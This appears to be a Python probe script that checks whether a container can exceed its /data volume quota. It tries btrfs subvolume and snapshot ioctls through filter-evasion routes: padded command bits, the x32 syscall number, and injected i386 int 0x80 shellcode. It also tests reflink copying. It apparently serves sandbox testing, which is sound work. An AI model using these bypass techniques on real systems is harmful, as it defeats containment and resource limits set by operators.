"""What a program in a container tries, to write more into its volume than the quota allows. Prints JSON.

It runs with the Python of whatever machine it is on, below `/data`, and needs nothing besides.
"""

import ctypes
import errno
import fcntl
import json
import mmap
import os
import struct
from pathlib import Path

VOLUME = "/data"
ARGUMENT_BYTES = 4096
FICLONE = 0x40049409
COMMANDS = {
    "SNAP_CREATE": 0x50009401,
    "SUBVOL_CREATE": 0x5000940E,
    "SNAP_CREATE_V2": 0x50009417,
    "SUBVOL_CREATE_V2": 0x50009418,
}
UPPER_BITS = (0, 1, 0x94, 0xDEADBEEF)
IOCTL = 16
X32_IOCTL = 0x40000000 | 514
I386_CALL = bytes.fromhex("53 89fb 89f1 b836000000 cd80 5b c3")
"""push rbx; mov ebx, edi; mov ecx, esi; mov eax, 54 (ioctl); int 0x80; pop rbx; ret. The third argument is in place."""
MAP_32BIT = 0x40

libc = ctypes.CDLL(None, use_errno=True)


def argument(command: str, name: str, source: int) -> bytes:
    """Return a struct btrfs_ioctl_vol_args, or one of the second version."""
    if command.endswith("_V2"):
        return (struct.pack("<qQQ32x", source, 0, 0) + name.encode()).ljust(ARGUMENT_BYTES, b"\0")
    return (struct.pack("<q", source) + name.encode()).ljust(ARGUMENT_BYTES, b"\0")


def ask(number: int, directory: int, command: int, content: bytes) -> str:
    """Make a system call of `ioctl`'s kind; return how it ended."""
    buffer = ctypes.create_string_buffer(content, len(content))
    done = libc.syscall(ctypes.c_long(number), ctypes.c_long(directory), ctypes.c_ulong(command), buffer)
    return "done" if done >= 0 else errno.errorcode[ctypes.get_errno()]


def ask_as_i386(directory: int, command: int, content: bytes) -> str:
    """Make the system call the way that 32-bit programs do."""
    code = mmap.mmap(-1, mmap.PAGESIZE, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(I386_CALL)
    call = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_long, ctypes.c_ulong, ctypes.c_ulong)(
        ctypes.addressof(ctypes.c_char.from_buffer(code))
    )
    low = mmap.mmap(-1, ARGUMENT_BYTES, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS | MAP_32BIT)
    low.write(content)
    done = call(directory, command, ctypes.addressof(ctypes.c_char.from_buffer(low)))
    return "done" if done >= 0 else errno.errorcode[-done]


def escapes(directory: int) -> dict[str, str]:
    """Try to make subvolumes in every way."""
    found = {}
    for name, command in COMMANDS.items():
        for upper in UPPER_BITS:
            content = argument(name, f"{name}-{upper}", directory)
            found[f"{name} {upper:x}"] = ask(IOCTL, directory, upper << 32 | command, content)
        found[f"{name} i386"] = ask_as_i386(directory, command, argument(name, f"{name}-i386", directory))
        found[f"{name} x32"] = ask(X32_IOCTL, directory, command, argument(name, f"{name}-x32", directory))
    return found


def copy_by_reference() -> str:
    """Copy a file as `cp --reflink=always` does."""
    content = os.urandom(1 << 20)
    Path("one").write_bytes(content)
    with Path("one").open("rb") as one, Path("two").open("wb") as two:
        fcntl.ioctl(two.fileno(), FICLONE, one.fileno())
    return "done" if Path("two").read_bytes() == content else "wrong"


def main() -> None:
    os.chdir(VOLUME)
    directory = os.open(".", os.O_RDONLY)
    print(json.dumps({"escapes": escapes(directory), "reflink": copy_by_reference()}))


if __name__ == "__main__":
    main()
